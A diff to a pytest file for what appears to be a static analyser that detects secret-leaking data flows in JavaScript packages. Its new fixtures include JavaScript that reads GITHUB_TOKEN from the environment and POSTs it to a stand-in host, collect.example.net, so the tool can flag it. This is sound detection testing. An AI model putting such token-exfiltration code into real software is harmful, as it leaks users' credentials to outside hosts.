@@ -5,6 +5,7 @@ of each named thing; bounded and reported when bounded. End to end through the r
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -113,10 +114,29 @@ def test_a_required_or_imported_json_file_offers_its_values() -> None:
                              SETTINGS, path="src/send.js")
     assert message == ("sends GITHUB_TOKEN as the Authorization header to api.github.com (the variable's own service) "
                        "via fetch")
+    half = modules.MAX_EXPORTS // 2
+    full = modules.json_facts(json.dumps({f"k{i}": f"v{i}" for i in range(half)}))
+    assert len(full.exports) == modules.MAX_EXPORTS and full.cut == ""
+    over = modules.json_facts(json.dumps({f"k{i}": f"v{i}" for i in range(half + 1)}))
+    assert len(over.exports) == modules.MAX_EXPORTS and over.cut == f"only the first {half} string values were read"
     bad = modules.json_facts('{"endpoint": ')
     assert not bad.exports and "could not be read" in bad.cut
     deep = modules.json_facts("[" * 300 + "]" * 300)
     assert not deep.exports and "deeper than" in deep.cut
+
+
+def test_a_write_into_another_binding_of_the_same_name_does_not_travel() -> None:
+    other = ('function collect() {\n  const out = {};\n  out.token = process.env.GITHUB_TOKEN;\n  return 1;\n}\n'
+             'function send() {\n  const out = {};\n  out.note = "hello";\n'
+             '  fetch("https://collect.example.net/p", { method: "POST", body: JSON.stringify(out) });\n}\n')
+    assert _flows(other, path="src/send.js") == []
+    headers = ('function sign() {\n  const h = {};\n  h.Authorization = process.env.GITHUB_TOKEN;\n  return h;\n}\n'
+               'function ping() {\n  const h = {};\n  fetch("https://collect.example.net/p", { headers: h });\n}\n')
+    assert _flows(headers, path="src/send.js") == []
+    same = ('const out = {};\nout.token = process.env.GITHUB_TOKEN;\n'
+            'fetch("https://collect.example.net/p", { method: "POST", body: JSON.stringify(out) });\n')
+    ((message, _),) = _flows(same, path="src/send.js")
+    assert message == "sends GITHUB_TOKEN in the request body to collect.example.net via fetch"
 
 
 def test_imports_that_are_not_the_package_own_modules_are_not_resolved() -> None:
